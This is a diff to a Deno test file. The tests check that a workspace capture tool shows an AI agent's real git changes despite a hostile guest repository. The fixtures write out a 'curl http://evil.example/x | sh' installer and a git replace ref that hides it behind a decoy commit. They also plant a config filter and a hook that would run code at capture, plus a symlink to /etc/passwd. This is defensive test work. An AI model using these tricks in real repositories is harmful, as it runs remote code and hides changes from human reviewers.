@@ -28,6 +28,29 @@ async function helper(
   return await docker(argv.slice(1), { allowFailure: true });
 }
 
+/**
+ * Shell, in the guest repository: the real change (an installer) committed, and a replace ref
+ * that shows a decoy (a README typo fix, same message) in its place.
+ */
+const REPLACED_HISTORY =
+  `echo 'curl http://evil.example/x | sh' > install.sh && git add install.sh && git commit -qm tidy
+      real=$(git rev-parse HEAD)
+      git reset -q --hard HEAD~1 && echo 'hi, fixed' > README && git commit -qam tidy
+      decoy=$(git rev-parse HEAD)
+      git reset -q --hard "$real" && git replace "$real" "$decoy"`;
+
+/** What a capture of REPLACED_HISTORY (plus notes.txt uncommitted) must leave in `out`. */
+async function assertRealChange(out: string): Promise<string> {
+  const names = [];
+  for await (const e of Deno.readDir(out)) names.push(e.name);
+  assert.deepEqual(names.sort(), ["changes.bundle", "diff.patch"], "no program of the agent ran");
+  const patch = await Deno.readTextFile(`${out}/diff.patch`);
+  assert.match(patch, /^\+curl http:\/\/evil\.example\/x \| sh$/m, "the real change is shown");
+  assert.doesNotMatch(patch, /hi, fixed/, "the replacement is not");
+  assert.match(patch, /^\+uncommitted$/m);
+  return patch;
+}
+
 Deno.test("workspace helper: submodules, a merge in progress, an unreadable dir, a hostile guest repo", async () => {
   const image = await bundleImage();
   const dir = await Deno.makeTempDir({ prefix: "bbtest-wshelper-" });
@@ -150,11 +173,7 @@ Deno.test("workspace helper: what the agent's .git says cannot make the diff dif
       git init -q -b main host && (cd host && echo hi > README && git add README && git commit -qm base)
       git clone -q host guest && cd guest && git rev-parse HEAD > ../base
       # The real change: an installer; the decoy: a README typo fix, same message.
-      echo 'curl http://evil.example/x | sh' > install.sh && git add install.sh && git commit -qm tidy
-      real=$(git rev-parse HEAD)
-      git reset -q --hard HEAD~1 && echo 'hi, fixed' > README && git commit -qam tidy
-      decoy=$(git rev-parse HEAD)
-      git reset -q --hard "$real" && git replace "$real" "$decoy"
+      ${REPLACED_HISTORY}
       # Programs the agent's config would run at capture.
       git config extensions.worktreeConfig true
       printf '[filter "x"]\\n\\tclean = "sh -c \\\\"touch /out/PWNED-worktree; cat\\\\""\\n' > .git/config.worktree
@@ -174,13 +193,7 @@ Deno.test("workspace helper: what the agent's .git says cannot make the diff dif
     ], ["capture", "s", base, "git"]);
     assert.equal(cap.code, 0, cap.stderr);
     const summary = JSON.parse(cap.stdout);
-    const out = [];
-    for await (const e of Deno.readDir(`${dir}/out`)) out.push(e.name);
-    assert.deepEqual(out.sort(), ["changes.bundle", "diff.patch"], "no program of the agent ran");
-    const patch = await Deno.readTextFile(`${dir}/out/diff.patch`);
-    assert.match(patch, /^\+curl http:\/\/evil\.example\/x \| sh$/m, "the real change is shown");
-    assert.doesNotMatch(patch, /hi, fixed/, "the replacement is not");
-    assert.match(patch, /^\+uncommitted$/m);
+    const patch = await assertRealChange(`${dir}/out`);
     // What the user fetches is what the diff showed.
     await sh(
       dir,
@@ -222,11 +235,7 @@ Deno.test("workspace helper: an incremental capture takes object files only, and
       tar -c -f /dev/null --listed-incremental=level0.snar -C guest .
       sleep 1
       cd guest
-      echo 'curl http://evil.example/x | sh' > install.sh && git add install.sh && git commit -qm tidy
-      real=$(git rev-parse HEAD)
-      git reset -q --hard HEAD~1 && echo 'hi, fixed' > README && git commit -qam tidy
-      decoy=$(git rev-parse HEAD)
-      git reset -q --hard "$real" && git replace "$real" "$decoy"
+      ${REPLACED_HISTORY}
       echo 'uncommitted' > notes.txt
       ln -s /etc/passwd .git/objects/ab
       printf '#!/bin/sh\\ntouch /out/PWNED\\n' > .git/hooks/post-checkout && chmod +x .git/hooks/post-checkout
@@ -254,13 +263,7 @@ Deno.test("workspace helper: an incremental capture takes object files only, and
     // bot-bottle's commit is recognised by what it is (identity, message), not the guest's word:
     // this one was made by hand with another identity.
     assert.equal(summary.auto_commit, false);
-    const out = [];
-    for await (const e of Deno.readDir(`${dir}/out`)) out.push(e.name);
-    assert.deepEqual(out.sort(), ["changes.bundle", "diff.patch"], "no program of the agent ran");
-    const patch = await Deno.readTextFile(`${dir}/out/diff.patch`);
-    assert.match(patch, /^\+curl http:\/\/evil\.example\/x \| sh$/m, "the real change is shown");
-    assert.doesNotMatch(patch, /hi, fixed/, "the replacement is not");
-    assert.match(patch, /^\+uncommitted$/m);
+    await assertRealChange(`${dir}/out`);
     // A sparse member named like an object (50 GiB of holes in a few KiB of archive) is not
     // taken: written out, its holes would fill the disk.
     await sh(
